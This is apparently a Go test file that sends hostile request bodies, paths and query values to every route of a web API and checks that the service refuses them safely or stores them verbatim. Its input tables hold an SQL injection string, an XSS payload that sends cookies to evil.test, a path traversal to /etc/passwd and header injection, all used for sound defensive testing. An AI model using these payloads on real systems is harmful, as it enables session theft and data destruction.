package web

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http/httptest"
	"net/url"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3"

	"nexus/store"
)

// Hostile values, as raw JSON, for string fields. SQL and HTML are data: a field that
// accepts them must store them as they came. The HTML has no parentheses or double
// quotes, which the campaign query compiler replaces in terms on purpose.
var (
	hostileSQL  = `'; DROP TABLE campaigns; --`
	hostileHTML = `<script>document.location='//evil.test/?c='+document.cookie</script>`

	hostileStrings = []string{
		mustJSON(hostileSQL),
		mustJSON(`x' OR '1'='1`),
		mustJSON(hostileHTML),
		mustJSON(`<img src=x onerror=alert` + "`1`" + `>`),
		`"nul\u0000byte"`,
		`"\u202egnp.exe"`,                        // right-to-left override
		`"zero\u200bwidth\ufeff"`,                // zero-width space, BOM
		`"\ud800"`,                               // a lone surrogate
		"\"\xff\xfe invalid\"",                   // bytes that are not UTF-8
		"\"\xc0\xaf overlong\"",                  // an overlong encoding of '/'
		"\"\xed\xa0\x80 surrogate\"",             // a surrogate encoded in UTF-8
		`"%s%n%x%d"`,                             // format verbs
		`"../../../../etc/passwd"`,               // a path
		`"line\r\nX-Injected: 1"`,                // header injection
		`"` + strings.Repeat("A", 100_000) + `"`, // long, under the body limit
		`"𝕏🚀👩‍👩‍👧"`,                              // astral plane and joiners
	}
	// Wrong types and out-of-range numbers, by the type the field wants.
	wrongForString = []string{`12345`, `true`, `{}`, `["x"]`, `[` + mustJSON(hostileSQL) + `]`, `1e400`}
	wrongForInt    = []string{`"12"`, `1.5`, `true`, `[]`, `{}`, `null`, `1e400`, `-1e400`, `1e2`, `-0`, `-1`,
		`2147483648`, `9223372036854775807`, `9223372036854775808`, `-9223372036854775809`,
		`99999999999999999999999999999999999999`, mustJSON(hostileSQL)}
	wrongForBool  = []string{`"true"`, `1`, `0`, `[]`, `{}`, `null`, mustJSON(hostileSQL)}
	wrongForArray = []string{`"x"`, mustJSON(hostileSQL), `{}`, `1`, `[1]`, `[null]`, `[true]`, `[["x"]]`, `[{}]`,
		`[` + strings.TrimSuffix(strings.Repeat(`"a",`, 10_000), ",") + `]`}
)

func mustJSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// hostileRoute says how to reach one route that takes a body.
type hostileRoute struct {
	as      string                              // token name of the caller
	prepare func(e *apiEnv) (path, body string) // a fresh target and a valid body
	// tables a 2xx may add rows to (audit_log always may: security events are recorded
	// for refused requests too)
	tables []string
	// after runs after a 2xx, to restore what the request changed for the next one
	after func(e *apiEnv)
	// more are other targets of the same route with bodies of their own (the kinds of
	// integration), each sent the whole table
	more []func(e *apiEnv) (path, body string)
	// readback returns the stored object a 2xx created or changed, when the response
	// is not the stored state itself
	readback func(e *apiEnv, resp map[string]any) map[string]any
}

func hostileRoutes() map[string]hostileRoute {
	ctx := context.Background()
	hash, _ := store.HashPassword(testPassword)
	member := func(e *apiEnv) store.Member { // newMemberA without hashing each time
		m, err := e.st.AddMember(ctx, e.orgA.ID, fmt.Sprintf("hostile%d@a.test", time.Now().UnixNano()), hash, "member")
		if err != nil {
			e.t.Fatal(err)
		}
		return m
	}
	campaignBack := func(e *apiEnv, resp map[string]any) map[string]any {
		id, _ := resp["id"].(float64)
		rec := e.do("GET", fmt.Sprintf("/api/v1/campaigns/%d", int64(id)), e.tokens["adminA"], "")
		var out map[string]any
		json.Unmarshal(rec.Body.Bytes(), &out)
		return out
	}
	r := map[string]hostileRoute{
		"POST /api/v1/setup": {prepare: staticPath("/api/v1/setup",
			`{"organization":"Z","email":"z@z.test","password":"long enough password"}`)},
		"POST /api/v1/auth/login": {tables: []string{"sessions"}, prepare: staticPath("/api/v1/auth/login",
			`{"email":"admin@a.test","password":"not the password"}`)},
		"POST /api/v1/me/password": {tables: []string{"sessions"}, after: func(e *apiEnv) {
			if err := e.st.SetPassword(ctx, e.users["memberA"].ID, hash); err != nil {
				e.t.Fatal(err)
			}
		}},
		"POST /api/v1/users": {tables: []string{"users", "memberships"}},
		"PATCH /api/v1/users/:id": {prepare: func(e *apiEnv) (string, string) {
			return fmt.Sprintf("/api/v1/users/%d", member(e).ID), `{"role":"admin"}`
		}},
		"POST /api/v1/tokens":                  {tables: []string{"api_tokens"}},
		"POST /api/v1/accounts":                {tables: []string{"x_accounts"}},
		"POST /api/v1/accounts/:id/reactivate": {tables: []string{"x_account_ops"}},
		"POST /api/v1/accounts/reset-locks":    {tables: []string{"x_account_ops"}},
		"POST /api/v1/campaigns":               {tables: []string{"campaigns"}, readback: campaignBack},
		"PATCH /api/v1/campaigns/:id":          {readback: campaignBack},
		"POST /api/v1/campaigns/:id/runs":      {tables: []string{"runs", "jobs"}},
		"PUT /api/v1/integrations/:kind": {tables: []string{"integrations"}, more: []func(*apiEnv) (string, string){
			staticPath("/api/v1/integrations/slack", `{"webhook_url":"https://93.184.215.14/services/T0/B0/x"}`),
			staticPath("/api/v1/integrations/slack", `{"bot_token":"xoxb-1-2-abc","channel":"#general"}`),
			staticPath("/api/v1/integrations/sheets", mustJSON(map[string]string{"spreadsheet_id": "1AbC",
				"service_account_json": `{"type":"service_account","client_email":"n@p.iam.gserviceaccount.com","private_key":"k"}`})),
		}},
		"POST /api/v1/opportunities/:id/feedback": {},
		"PATCH /api/v1/opportunities/:id":         {},
		"POST /api/v1/campaigns/preview":          {},
		"POST /api/v1/runs/:id/cancel":            {},
		"POST /api/v1/auth/logout":                {tables: []string{"sessions"}},
		"POST /api/v1/integrations/:kind/test":    {},
	}
	for key, h := range r {
		if tc, ok := routeCases[key]; ok {
			if h.prepare == nil {
				h.prepare = tc.prepare
			}
			if h.as == "" {
				h.as = tc.as
			}
		}
		r[key] = h
	}
	return r
}

// dbState counts the rows of every table, found in the schema itself so that a new
// table is covered without a change here.
type dbState map[string]int

// rowCounter counts every table's rows in one query per snapshot (the table takes
// two snapshots per request) on a read-only connection of its own. It counts again
// only when SQLite's data_version says another connection committed since the last
// count: most refused requests write nothing, and -race makes every query slow.
type rowCounter struct {
	db      *sql.DB
	tables  []string
	query   string
	version int64
	last    dbState
}

func newRowCounter(t *testing.T, st *store.Store) *rowCounter {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+st.Path()+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	db.SetMaxOpenConns(1) // data_version is per connection
	db.SetMaxIdleConns(1)
	db.SetConnMaxLifetime(0)
	rows, err := db.Query(`SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	rc := &rowCounter{db: db}
	var parts []string
	for rows.Next() {
		var n string
		if err := rows.Scan(&n); err != nil {
			t.Fatal(err)
		}
		rc.tables = append(rc.tables, n)
		parts = append(parts, `(SELECT COUNT(*) FROM "`+n+`")`)
	}
	if len(rc.tables) < 15 {
		t.Fatalf("only %d tables: %v", len(rc.tables), rc.tables)
	}
	rc.query = "SELECT " + strings.Join(parts, ", ")
	return rc
}

func (rc *rowCounter) snapshot(t *testing.T) dbState {
	t.Helper()
	var version int64
	if err := rc.db.QueryRow(`PRAGMA data_version`).Scan(&version); err != nil {
		t.Fatal(err)
	}
	if rc.last != nil && version == rc.version {
		return rc.last
	}
	counts := make([]int, len(rc.tables))
	dest := make([]any, len(counts))
	for i := range counts {
		dest[i] = &counts[i]
	}
	if err := rc.db.QueryRow(rc.query).Scan(dest...); err != nil {
		t.Fatal(err)
	}
	s := dbState{}
	for i, n := range rc.tables {
		s[n] = counts[i]
	}
	rc.version, rc.last = version, s
	return s
}

// storeCounts is the same through the store's own read pool, for the before and after
// of the whole table.
func (rc *rowCounter) storeCounts(t *testing.T, st *store.Store) dbState {
	t.Helper()
	s := dbState{}
	for _, name := range rc.tables {
		n, err := st.Count(context.Background(), `SELECT COUNT(*) FROM "`+name+`"`)
		if err != nil {
			t.Fatal(err)
		}
		s[name] = n
	}
	return s
}

func (s dbState) changed(after dbState) []string {
	var out []string
	for name, n := range after {
		if s[name] != n {
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out
}

// hostileCase is one request of the table.
type hostileCase struct {
	name        string
	body        []byte
	contentType string
	chunked     bool   // no Content-Length: the body limit is hit while reading
	encoding    string // Content-Encoding
	field       string // the field a field variant targets
	value       string // the raw JSON given to it
	wantStatus  int    // 0: any 4xx or a legit 2xx
}

// genericCases go to every route that takes a body, whatever it reads.
func genericCases() []hostileCase {
	huge := []byte(`{"name":"` + strings.Repeat("A", 2<<20) + `"}`)
	deepArr := strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000)
	deepObj := strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000)
	return []hostileCase{
		{name: "huge", body: huge, wantStatus: 413},
		{name: "huge chunked", body: huge, chunked: true},
		{name: "deep array", body: []byte(deepArr)},
		{name: "deep object", body: []byte(deepObj)},
		{name: "deep in a field", body: []byte(`{"name":` + deepArr + `}`)},
		{name: "deeper than the decoder allows", body: []byte(strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000))},
		{name: "deep unclosed", body: []byte(strings.Repeat(`{"a":[`, 50_000))},
		{name: "gzip", body: []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xae\x05\x00C\xbf\xa6\xa3\x02\x00\x00\x00"), encoding: "gzip"},
		{name: "not json", body: []byte(`name=x&password=y`)},
		{name: "truncated", body: []byte(`{"name":"x`)},
		{name: "trailing", body: []byte(`{}{"name":"x"}`)},
		{name: "array", body: []byte(`[]`)},
		{name: "string", body: []byte(`"` + hostileSQL + `"`)},
		{name: "number", body: []byte(`1e999`)},
		{name: "null", body: []byte(`null`)},
		{name: "bom", body: []byte("\xef\xbb\xbf{}")},
		{name: "nul bytes", body: []byte("{\x00}")},
		{name: "invalid utf-8 key", body: []byte("{\"\xff\":1}")},
		{name: "duplicate keys", body: []byte(`{"name":"a","name":"b"}`)},
		{name: "unknown field", body: []byte(`{"` + hostileSQL + `":1}`)},
		{name: "xml", body: []byte(`<?xml version="1.0"?><a/>`), contentType: "application/xml"},
		{name: "text", body: []byte(`{}`), contentType: "text/plain"},
		{name: "bad media type", body: []byte(`{}`), contentType: "application/json; charset=\x01"},
	}
}

// fieldCases put each hostile value into one field of a valid body (the body is made
// at the time of the request, from a fresh valid one: names must not collide).
func fieldCases(schema *openapi3.Schema) []hostileCase {
	var out []hostileCase
	names := slices.Sorted(maps.Keys(schema.Properties))
	for _, field := range names {
		ps := schema.Properties[field].Value
		var values []string
		switch {
		case ps.Type.Is("string"):
			values = append(append(values, hostileStrings...), wrongForString...)
		case ps.Type.Is("integer"), ps.Type.Is("number"):
			values = wrongForInt
		case ps.Type.Is("boolean"):
			values = wrongForBool
		case ps.Type.Is("array"):
			values = slices.Clone(wrongForArray)
			if ps.Items != nil && ps.Items.Value.Type.Is("string") {
				for _, s := range hostileStrings {
					values = append(values, "["+s+"]")
				}
			} else {
				values = append(values, `[{"integration":`+mustJSON(hostileSQL)+`,"mode":`+mustJSON(hostileHTML)+`}]`, `[{"integration":1}]`)
			}
		default:
			values = wrongForString
		}
		for i, v := range values {
			out = append(out, hostileCase{name: fmt.Sprintf("%s #%d", field, i), field: field, value: v})
		}
	}
	return out
}

// withField is base with field set to raw, written by hand so that the raw bytes
// (invalid UTF-8 included) reach the server as they are.
func withField(base map[string]json.RawMessage, field, raw string) []byte {
	keys := slices.Sorted(maps.Keys(base))
	if _, ok := base[field]; !ok {
		keys = append(keys, field)
	}
	var b bytes.Buffer
	b.WriteByte('{')
	for i, k := range keys {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(mustJSON(k) + ":")
		if k == field {
			b.WriteString(raw)
		} else {
			b.Write(base[k])
		}
	}
	b.WriteByte('}')
	return b.Bytes()
}

// bodySchema is the documented request body of an operation; for a oneOf (the
// integration kinds) the member the valid base body matches.
func bodySchema(op *openapi3.Operation, base []byte) *openapi3.Schema {
	if op == nil || op.RequestBody == nil {
		return nil
	}
	mt := op.RequestBody.Value.Content.Get("application/json")
	if mt == nil {
		return nil
	}
	s := mt.Schema.Value
	if len(s.OneOf) == 0 {
		return s
	}
	var v any
	json.Unmarshal(base, &v)
	for _, m := range s.OneOf {
		if m.Value.VisitJSON(v) == nil {
			return m.Value
		}
	}
	return nil
}

// TestHostileInputs sends every hostile body of the table to every route that takes
// one, walking the router so that a new route is covered as soon as it exists. Every
// answer is a 4xx that changed nothing, or a 2xx that stored the value as it came and
// touched only the tables the route owns; never a 5xx.
func TestHostileInputs(t *testing.T) {
	env := newAPIEnv(t)
	env.populate()
	doc := loadOpenAPI(t)
	routes := hostileRoutes()
	rc := newRowCounter(t, env.st)
	start := rc.storeCounts(t, env.st)
	last := start
	orgB := fingerprintB(env)
	prepared := map[string]bool{} // tables the preparations (not the requests) changed
	requests := 0

	var keys []string
	for _, r := range env.srv.Echo().Router().Routes() {
		if (r.Method == "POST" || r.Method == "PUT" || r.Method == "PATCH") && strings.HasPrefix(r.Path, "/api/v1/") {
			keys = append(keys, r.Method+" "+r.Path)
		}
	}
	sort.Strings(keys)
	for _, key := range keys {
		h, ok := routes[key]
		if !ok || h.prepare == nil {
			t.Errorf("route %s takes a body but has no hostile case; add it to hostileRoutes", key)
			continue
		}
		method, echoPath, _ := strings.Cut(key, " ")
		var op *openapi3.Operation
		if item := doc.Paths.Value(openapiPath(echoPath)); item != nil {
			op = item.GetOperation(method)
		}
		for i, prepare := range append([]func(*apiEnv) (string, string){h.prepare}, h.more...) {
			firstPath, baseBody := prepare(env)
			cases := genericCases()
			schema := bodySchema(op, []byte(baseBody))
			if schema != nil {
				cases = append(cases, fieldCases(schema)...)
			} else if op != nil && op.RequestBody != nil {
				t.Errorf("%s: no schema matches the valid body %s", key, baseBody)
			}
			name := key
			if i > 0 {
				name = fmt.Sprintf("%s %s #%d", key, firstPath, i)
			}
			t.Run(name, func(t *testing.T) {
				statuses := map[int]int{}
				defer func() { t.Logf("%d requests, by status: %v", len(cases), statuses) }()
				for _, hc := range cases {
					path, body := prepare(env)
					if hc.field != "" {
						var base map[string]json.RawMessage
						if err := json.Unmarshal([]byte(body), &base); err != nil {
							t.Fatalf("%s: base body %s: %v", key, body, err)
						}
						hc.body = withField(base, hc.field, hc.value)
					}
					s1 := rc.snapshot(t)
					for _, name := range last.changed(s1) {
						prepared[name] = true
					}
					requests++
					rec := sendHostile(env, method, path, env.tokens[h.as], hc, requests)
					statuses[rec.Code]++
					last = rc.snapshot(t)
					checkHostile(t, env, key, h, hc, schema != nil, rec, s1.changed(last))
				}
			})
		}
	}

	// After the whole table: the tables no route owns and no preparation touched hold
	// the rows they held, B sees exactly what it saw, and the server is healthy.
	owned := map[string]bool{"audit_log": true}
	for _, h := range routes {
		for _, name := range h.tables {
			owned[name] = true
		}
	}
	end := rc.storeCounts(t, env.st)
	for _, name := range start.changed(end) {
		if !owned[name] && !prepared[name] {
			t.Errorf("table %s went from %d to %d rows", name, start[name], end[name])
		}
	}
	if start["organizations"] != end["organizations"] {
		t.Errorf("organizations went from %d to %d", start["organizations"], end["organizations"])
	}
	if got := fingerprintB(env); got != orgB {
		t.Errorf("organization B's data changed:\nbefore %s\nafter  %s", orgB, got)
	}
	if rec := env.do("GET", "/health", "", ""); rec.Code != 200 {
		t.Fatalf("health after the table: %d %s", rec.Code, rec.Body)
	}
	if rec := env.do("GET", "/api/v1/campaigns", env.tokens["adminA"], ""); rec.Code != 200 {
		t.Fatalf("campaigns after the table: %d", rec.Code)
	}
	t.Logf("%d hostile requests to %d routes", requests, len(keys))
}

// sendHostile sends one case, from an address of its own so that the login limits
// (which answer 429 before reading) do not hide what the body does.
func sendHostile(env *apiEnv, method, path, token string, hc hostileCase, n int) *httptest.ResponseRecorder {
	req := httptest.NewRequest(method, path, bytes.NewReader(hc.body))
	ct := hc.contentType
	if ct == "" {
		ct = "application/json"
	}
	req.Header.Set("Content-Type", ct)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if hc.encoding != "" {
		req.Header.Set("Content-Encoding", hc.encoding)
	}
	if hc.chunked {
		req.ContentLength = -1
		req.Body = io.NopCloser(bytes.NewReader(hc.body))
	}
	req.RemoteAddr = fmt.Sprintf("10.%d.%d.%d:4000", n>>16&255, n>>8&255, n&255)
	rec := httptest.NewRecorder()
	env.srv.Handler().ServeHTTP(rec, req)
	return rec
}

func checkHostile(t *testing.T, env *apiEnv, key string, h hostileRoute, hc hostileCase, takesBody bool, rec *httptest.ResponseRecorder, changed []string) {
	t.Helper()
	where := fmt.Sprintf("%s [%s] %.120q", key, hc.name, hc.body)
	switch {
	case rec.Code >= 500:
		t.Errorf("%s: %d %s", where, rec.Code, rec.Body)
		return
	case hc.wantStatus != 0 && rec.Code != hc.wantStatus:
		t.Errorf("%s: %d, want %d: %.300s", where, rec.Code, hc.wantStatus, rec.Body)
	case hc.chunked && takesBody && rec.Code != 413:
		t.Errorf("%s: %d, want 413: %.300s", where, rec.Code, rec.Body)
	}
	if rec.Code >= 400 {
		var e struct{ Error *Error }
		if json.Unmarshal(rec.Body.Bytes(), &e) != nil || e.Error == nil || e.Error.Code == "" {
			t.Errorf("%s: %d without an error body: %.300s", where, rec.Code, rec.Body)
		}
		for _, name := range changed {
			if name != "audit_log" {
				t.Errorf("%s: refused with %d but table %s changed", where, rec.Code, name)
			}
		}
		return
	}
	for _, name := range changed {
		if name != "audit_log" && !slices.Contains(h.tables, name) {
			t.Errorf("%s: %d changed table %s, which the route does not own", where, rec.Code, name)
		}
	}
	if h.after != nil {
		h.after(env)
	}
	if hc.field != "" {
		checkStoredVerbatim(t, env, where, h, hc, rec)
	}
}

// secretFields are never in a response, whatever was sent.
var writeOnlyFields = map[string]bool{"password": true, "current_password": true, "new_password": true, "cookies": true,
	"secret": true, "bot_token": true, "webhook_url": true, "service_account_json": true, "proxy": true}

// responseField is where the stored value of a request field shows.
var responseField = map[string]string{"note": "feedback_note"}

// checkStoredVerbatim: a 2xx that took a hostile string stored it as it came, up to
// the normalisation the API documents (trimmed, white space collapsed, quotes and
// parentheses out of search terms, case of codes), and never echoes a secret.
func checkStoredVerbatim(t *testing.T, env *apiEnv, where string, h hostileRoute, hc hostileCase, rec *httptest.ResponseRecorder) {
	t.Helper()
	var sent any
	if json.Unmarshal([]byte(hc.value), &sent) != nil {
		return
	}
	var strs []string
	switch v := sent.(type) {
	case string:
		strs = []string{v}
	case []any:
		for _, x := range v {
			if s, ok := x.(string); ok {
				strs = append(strs, s)
			}
		}
	}
	if len(strs) == 0 {
		return
	}
	if writeOnlyFields[hc.field] {
		for _, s := range strs {
			if len(s) >= 6 && strings.Contains(rec.Body.String(), strings.TrimSuffix(strings.TrimPrefix(mustJSON(s), `"`), `"`)) {
				t.Errorf("%s: the write-only %s is in the response", where, hc.field)
			}
		}
		return
	}
	var resp map[string]any
	if json.Unmarshal(rec.Body.Bytes(), &resp) != nil {
		return
	}
	obj := resp
	if h.readback != nil {
		obj = h.readback(env, resp)
	}
	name := hc.field
	if alias, ok := responseField[name]; ok {
		name = alias
	}
	got, ok := obj[name]
	if settings, isMap := obj["settings"].(map[string]any); !ok && isMap {
		got, ok = settings[name] // an integration's public settings
	}
	if !ok {
		return // not a field the API shows (a filter, a token's lifetime)
	}
	var stored []string
	switch v := got.(type) {
	case string:
		stored = []string{v}
	case []any:
		for _, x := range v {
			if s, ok := x.(string); ok {
				stored = append(stored, s)
			}
		}
	}
	for _, s := range strs {
		if strings.TrimSpace(normalizeTerm(s)) == "" {
			continue
		}
		if !slices.ContainsFunc(stored, func(x string) bool { return normalizeTerm(x) == normalizeTerm(s) }) {
			t.Errorf("%s: %s stored as %.200q, sent %.200q", where, hc.field, stored, s)
		}
	}
}

// normalizeTerm undoes only what the API does to text on purpose.
func normalizeTerm(s string) string {
	s = strings.Map(func(r rune) rune {
		if strings.ContainsRune("\"“”„‟＂()", r) {
			return ' '
		}
		return r
	}, s)
	return strings.ToLower(strings.Join(strings.Fields(s), " "))
}

// fingerprintB is what organization B's admin sees of B, to prove A's hostile
// requests changed nothing of it.
func fingerprintB(env *apiEnv) string {
	var b strings.Builder
	for _, path := range []string{"/api/v1/campaigns", "/api/v1/accounts", "/api/v1/users", "/api/v1/integrations",
		"/api/v1/opportunities", "/api/v1/audit"} {
		rec := env.do("GET", path, env.tokens["adminB"], "")
		fmt.Fprintf(&b, "%s %d %s\n", path, rec.Code, rec.Body)
	}
	return b.String()
}

// TestHostilePathsAndQueries: ids and query parameters that are not what the route
// wants are a 4xx (a malformed id names no object: 404), never a 5xx.
func TestHostilePathsAndQueries(t *testing.T) {
	env := newAPIEnv(t)
	env.populate()
	doc := loadOpenAPI(t)
	ids := []string{"0", "-1", "1.5", "0x10", "1e3", "99999999999999999999", url.PathEscape(hostileSQL),
		url.PathEscape(hostileHTML), "%00", "%E2%80%AE1", "1%0A", strings.Repeat("9", 5000)}
	queryValues := []string{"-1", "1.5", "abc", "99999999999999999999", "1e400", "", url.QueryEscape(hostileSQL),
		url.QueryEscape(hostileHTML), "%00", "%ff", strings.Repeat("9", 5000)}
	var n int
	for _, r := range env.srv.Echo().Router().Routes() {
		if !strings.HasPrefix(r.Path, "/api/v1/") || strings.HasSuffix(r.Path, "*") {
			continue
		}
		token := env.tokens["adminA"]
		for _, id := range ids {
			if !strings.Contains(r.Path, ":") {
				break
			}
			path := echoParam.ReplaceAllString(r.Path, id)
			rec := env.do(r.Method, path, token, "")
			n++
			if rec.Code != 404 {
				t.Errorf("%s %s: %d, want 404: %.200s", r.Method, path, rec.Code, rec.Body)
			}
		}
		item := doc.Paths.Value(openapiPath(r.Path))
		if item == nil || r.Method != "GET" {
			continue
		}
		var params []string
		for _, p := range item.GetOperation("GET").Parameters {
			if p.Value.In == "query" {
				params = append(params, p.Value.Name)
			}
		}
		if len(params) == 0 {
			continue
		}
		base := r.Path
		switch {
		case strings.HasPrefix(base, "/api/v1/campaigns/:id/"):
			base = strings.Replace(base, ":id", fmt.Sprint(newCampaignA(env).ID), 1)
		case strings.Contains(base, ":"):
			t.Errorf("%s takes query parameters: give it a target here", r.Path)
			continue
		}
		for _, name := range params {
			for _, v := range queryValues {
				path := base + "?" + name + "=" + v
				rec := env.do("GET", path, token, "")
				n++
				if rec.Code != 200 && rec.Code != 400 {
					t.Errorf("GET %.200s: %d: %.200s", path, rec.Code, rec.Body)
				}
			}
		}
	}
	if rec := env.do("GET", "/health", "", ""); rec.Code != 200 {
		t.Fatalf("health: %d", rec.Code)
	}
	t.Logf("%d requests", n)
}
